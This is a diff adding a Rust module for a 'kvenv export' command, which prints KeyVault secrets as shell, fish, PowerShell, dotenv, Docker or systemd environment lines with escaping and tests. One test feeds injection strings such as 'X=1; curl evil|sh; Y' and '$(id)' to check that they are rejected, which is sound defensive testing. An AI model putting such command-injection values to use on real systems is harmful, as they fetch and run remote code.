@@ -0,0 +1,236 @@
+use std::io::{self, Write};
+
+use anyhow::Result;
+use clap::{Args, ValueEnum};
+use thiserror::Error;
+
+use crate::env::{download_env, EnvConfig};
+
+#[derive(Error, Debug)]
+pub enum ExportError {
+    #[error("cannot load environment")]
+    Load(#[source] anyhow::Error),
+    #[error("variable '{0}' cannot be represented in the {1:?} format")]
+    Unrepresentable(String, Format),
+    #[error("cannot write the environment")]
+    Io(#[from] io::Error),
+}
+
+/// Prints the environment downloaded from KeyVault in a format understood by other tools.
+#[derive(Args, Debug)]
+pub struct Export {
+    #[command(flatten)]
+    env: EnvConfig,
+
+    /// The output format.
+    #[arg(short = 'o', long, value_enum, default_value_t = Format::Posix)]
+    format: Format,
+}
+
+#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
+pub enum Format {
+    /// POSIX shell `export KEY='VALUE'` lines, e.g. for `eval "$(kvenv export ...)"`.
+    Posix,
+    /// fish `set -gx KEY 'VALUE'` lines.
+    Fish,
+    /// PowerShell `$env:KEY = 'VALUE'` lines.
+    Powershell,
+    /// `.env` file for python-dotenv and Node's dotenv, with double-quoted values (single-quoted
+    /// if they contain `$`).
+    Dotenv,
+    /// `docker run --env-file` file. Values cannot contain newlines.
+    Docker,
+    /// systemd `EnvironmentFile=` file.
+    Systemd,
+}
+
+/// Whether the name can be used unquoted in all the formats, i.e. matches `[A-Za-z_][A-Za-z0-9_]*`.
+fn is_valid_name(key: &str) -> bool {
+    let mut chars = key.chars();
+    chars
+        .next()
+        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
+        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
+}
+
+impl Format {
+    fn render(&self, key: &str, value: &str) -> Result<String, ExportError> {
+        if !is_valid_name(key) {
+            return Err(ExportError::Unrepresentable(key.to_string(), *self));
+        }
+        let line = match self {
+            Format::Posix => format!("export {key}='{}'", value.replace('\'', r"'\''")),
+            Format::Fish => format!(
+                "set -gx {key} '{}'",
+                value.replace('\\', r"\\").replace('\'', r"\'")
+            ),
+            Format::Powershell => {
+                // PowerShell treats typographic single quotes as regular ones.
+                let escaped: String = value
+                    .chars()
+                    .flat_map(|c| match c {
+                        '\'' | '\u{2018}' | '\u{2019}' | '\u{201a}' | '\u{201b}' => vec![c, c],
+                        c => vec![c],
+                    })
+                    .collect();
+                format!("$env:{key} = '{escaped}'")
+            }
+            // Double-quoted values are expanded by the loaders, while single-quoted ones are
+            // taken literally, but they differ in handling of `\` and `'` there.
+            Format::Dotenv if value.contains('$') => {
+                if value.contains(['\\', '\'']) {
+                    return Err(ExportError::Unrepresentable(key.to_string(), *self));
+                }
+                format!("{key}='{value}'")
+            }
+            Format::Dotenv => format!(
+                "{key}=\"{}\"",
+                value
+                    .replace('\\', r"\\")
+                    .replace('"', "\\\"")
+                    .replace('\n', r"\n")
+                    .replace('\r', r"\r")
+            ),
+            Format::Docker => {
+                if value.contains(['\n', '\r']) {
+                    return Err(ExportError::Unrepresentable(key.to_string(), *self));
+                }
+                format!("{key}={value}")
+            }
+            Format::Systemd => {
+                let escaped: String = value
+                    .chars()
+                    .flat_map(|c| match c {
+                        '\\' | '"' | '`' | '$' => vec!['\\', c],
+                        c => vec![c],
+                    })
+                    .collect();
+                format!("{key}=\"{escaped}\"")
+            }
+        };
+        Ok(line)
+    }
+}
+
+fn write_env<W: Write>(
+    mut w: W,
+    vars: &[(String, String)],
+    format: Format,
+) -> Result<(), ExportError> {
+    // Render everything first, so nothing is printed if any of the values is unrepresentable.
+    let lines = vars
+        .iter()
+        .map(|(k, v)| format.render(k, v))
+        .collect::<Result<Vec<_>, _>>()?;
+    for line in lines {
+        writeln!(w, "{line}")?;
+    }
+    Ok(())
+}
+
+pub fn run_export(cfg: Export) -> Result<()> {
+    let env = download_env(cfg.env, false).map_err(ExportError::Load)?;
+    let vars = env.into_downloaded();
+    write_env(io::stdout().lock(), &vars, cfg.format)?;
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use std::process::Command;
+
+    use super::*;
+
+    fn render(format: Format, value: &str) -> String {
+        format.render("KEY", value).unwrap()
+    }
+
+    const TRICKY: &str = "a'b\"c\\d$e`f\ng";
+
+    #[test]
+    fn renders_posix() {
+        assert_eq!("export KEY='abc'", render(Format::Posix, "abc"));
+        assert_eq!(r"export KEY='a'\''b'", render(Format::Posix, "a'b"));
+    }
+
+    #[test]
+    fn posix_round_trips_through_shell() {
+        let script = format!("{}\nprintf %s \"$KEY\"", render(Format::Posix, TRICKY));
+        let output = Command::new("/bin/sh")
+            .args(["-c", &script])
+            .output()
+            .unwrap();
+        assert_eq!(TRICKY, String::from_utf8(output.stdout).unwrap());
+    }
+
+    #[test]
+    fn renders_fish() {
+        assert_eq!(r"set -gx KEY 'a\'b\\c'", render(Format::Fish, r"a'b\c"));
+    }
+
+    #[test]
+    fn renders_powershell() {
+        assert_eq!("$env:KEY = 'a''b'", render(Format::Powershell, "a'b"));
+        assert_eq!(
+            "$env:KEY = 'a\u{2019}\u{2019}b'",
+            render(Format::Powershell, "a\u{2019}b")
+        );
+    }
+
+    #[test]
+    fn renders_dotenv() {
+        assert_eq!(
+            r#"KEY="a'b\"c\\d`f\ng""#,
+            render(Format::Dotenv, "a'b\"c\\d`f\ng")
+        );
+        assert_eq!("KEY='a\"b$c\nd'", render(Format::Dotenv, "a\"b$c\nd"));
+        assert!(Format::Dotenv.render("KEY", TRICKY).is_err());
+    }
+
+    #[test]
+    fn renders_docker() {
+        assert_eq!("KEY=a b 'c'", render(Format::Docker, "a b 'c'"));
+        assert!(matches!(
+            Format::Docker.render("KEY", "a\nb"),
+            Err(ExportError::Unrepresentable(_, Format::Docker))
+        ));
+    }
+
+    #[test]
+    fn renders_systemd() {
+        assert_eq!(
+            "KEY=\"a'b\\\"c\\\\d\\$e\\`f\ng\"",
+            render(Format::Systemd, TRICKY)
+        );
+    }
+
+    #[test]
+    fn rejects_invalid_names() {
+        for key in ["X=1; curl evil|sh; Y", "1ST", "A-B", "", "$(id)"] {
+            for format in Format::value_variants() {
+                assert!(
+                    matches!(
+                        format.render(key, "value"),
+                        Err(ExportError::Unrepresentable(_, _))
+                    ),
+                    "{key:?} accepted by {format:?}"
+                );
+            }
+        }
+        assert!(Format::Posix.render("_a1", "value").is_ok());
+    }
+
+    #[test]
+    fn writes_nothing_if_any_value_fails() {
+        let mut out = Vec::new();
+        let vars = vec![
+            ("A".to_string(), "1".to_string()),
+            ("B".to_string(), "2\n".to_string()),
+        ];
+        assert!(write_env(&mut out, &vars, Format::Docker).is_err());
+        assert!(out.is_empty());
+
+        write_env(&mut out, &vars[..1], Format::Docker).unwrap();
+        assert_eq!("A=1\n", String::from_utf8(out).unwrap());
+    }
+}